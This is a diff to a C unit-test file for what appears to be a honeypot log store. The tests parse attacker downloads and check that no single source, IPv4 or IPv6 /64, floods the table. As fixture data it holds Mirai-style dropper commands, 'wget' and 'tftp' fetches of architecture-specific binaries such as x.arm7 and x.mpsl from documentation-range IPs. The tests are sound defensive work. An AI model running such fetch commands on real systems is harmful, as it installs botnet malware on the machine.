@@ -277,7 +277,7 @@ static void what_the_store_does_not_take_of_a_content_is_cut(void **state)
 
 /* ---- What is in the texts ---- */
 
-static void downloads_come_from_commands_and_from_payloads_that_are_no_dialogue(void **state)
+static void downloads_come_from_lines_and_from_payloads_that_are_no_dialogue(void **state)
 {
     (void)state;
     struct seen seen = {0};
@@ -285,15 +285,18 @@ static void downloads_come_from_commands_and_from_payloads_that_are_no_dialogue(
     take_command(table, DAY, "wget http://192.0.2.1/x.arm7; wget http://192.0.2.2/x.arm7");
     take_payload(table, DAY, "wget http://192.0.2.3/x.arm7", 28, false, false);
     take_payload(table, DAY, "wget http://192.0.2.4/x.arm7", 28, false, true);
+    take_login(table, "cd /tmp;wget http://192.0.2.5/x.mpsl", "tftp -g -r x.sh4 192.0.2.6");
     hand_over(table, &seen);
     const struct day_seen *day = &seen.days[0];
-    assert_int_equal(day->rows.download_count, 3);
+    assert_int_equal(day->rows.download_count, 5);
+    assert_text(day, day->downloads[3].cpu, "mpsl"); /* who thinks that he is in a shell already */
+    assert_text(day, day->downloads[4].url, "tftp://192.0.2.6/x.sh4");
     assert_text(day, day->downloads[0].host, "192.0.2.1");
     assert_text(day, day->downloads[1].url, "http://192.0.2.2/x.arm7");
     assert_text(day, day->downloads[2].host, "192.0.2.3");
     assert_text(day, day->downloads[2].file, "x.arm7");
     assert_text(day, day->downloads[2].cpu, "arm7");
-    assert_int_equal(heard_counts(table).downloads, 3);
+    assert_int_equal(heard_counts(table).downloads, 5);
     seen_clear(&seen);
     heard_table_destroy(table);
 }
@@ -365,6 +368,63 @@ static void rows_that_do_not_fit_are_dropped_and_counted(void **state)
     heard_table_destroy(table);
 }
 
+/* Who types an empty word a million times does not keep the others from being heard. */
+static void one_source_does_not_take_all_the_room(void **state)
+{
+    (void)state;
+    enum { ROUNDS = 100000, OTHERS = 100, LIMIT = 1 << 20 };
+    struct seen seen = {0};
+    struct heard_table *table = table_of(LIMIT);
+    for (uint32_t i = 0; i < ROUNDS; i++)
+        take_command(table, DAY, "a");
+    struct heard_counts counts = heard_counts(table);
+    assert_in_range(counts.commands, 1000, 5000); /* of 8192 that there is room for */
+    assert_int_equal(counts.commands + counts.dropped, ROUNDS);
+    for (uint32_t i = 0; i < OTHERS; i++) {
+        struct heard heard = heard_of(HEARD_COMMAND, DAY, 5);
+        heard.talk.src = ipv6_of_ipv4((struct ipv4){0xc6336400 + i});
+        heard.command = bytes_of("sh");
+        heard_table_take(table, &heard);
+    }
+    /* One more may share his place. */
+    assert_true(heard_counts(table).commands >= counts.commands + OTHERS - 2);
+    hand_over(table, &seen);
+    take_command(table, DAY, "a"); /* the next span */
+    assert_false(heard_table_is_empty(table));
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+/* Addresses of one /64 are one source. */
+static void a_source_of_ipv6_is_its_64(void **state)
+{
+    (void)state;
+    enum { ROUNDS = 20000, LIMIT = 1 << 20 };
+    struct heard_table *table = table_of(LIMIT);
+    for (uint32_t i = 0; i < ROUNDS; i++) {
+        struct heard heard = heard_of(HEARD_COMMAND, DAY, 5);
+        assert_true(ipv6_parse("2001:db8::9", 11, &heard.talk.src));
+        memcpy(heard.talk.src.bytes + 12, &i, sizeof i);
+        heard.command = bytes_of("a");
+        heard_table_take(table, &heard);
+    }
+    assert_in_range(heard_counts(table).commands, 1000, 5000);
+    heard_table_destroy(table);
+}
+
+static void what_did_not_fit_makes_no_day(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(1);
+    take_command(table, DAY, "a");
+    assert_int_equal(heard_counts(table).dropped, 1);
+    assert_true(heard_table_is_empty(table));
+    hand_over(table, &seen);
+    assert_int_equal(seen.calls, 0);
+    heard_table_destroy(table);
+}
+
 static void times_outside_of_all_days_are_dropped(void **state)
 {
     (void)state;
@@ -422,9 +482,12 @@ int main(void)
         cmocka_unit_test(the_id_is_the_content_hash),
         cmocka_unit_test(thousands_of_contents_are_found_again),
         cmocka_unit_test(what_the_store_does_not_take_of_a_content_is_cut),
-        cmocka_unit_test(downloads_come_from_commands_and_from_payloads_that_are_no_dialogue),
+        cmocka_unit_test(downloads_come_from_lines_and_from_payloads_that_are_no_dialogue),
         cmocka_unit_test(the_host_is_the_source_in_any_form_of_its_address),
         cmocka_unit_test(rows_that_do_not_fit_are_dropped_and_counted),
+        cmocka_unit_test(one_source_does_not_take_all_the_room),
+        cmocka_unit_test(a_source_of_ipv6_is_its_64),
+        cmocka_unit_test(what_did_not_fit_makes_no_day),
         cmocka_unit_test(times_outside_of_all_days_are_dropped),
         cmocka_unit_test(days_are_handed_over_in_order),
         cmocka_unit_test(a_failure_is_told_and_the_table_is_empty),
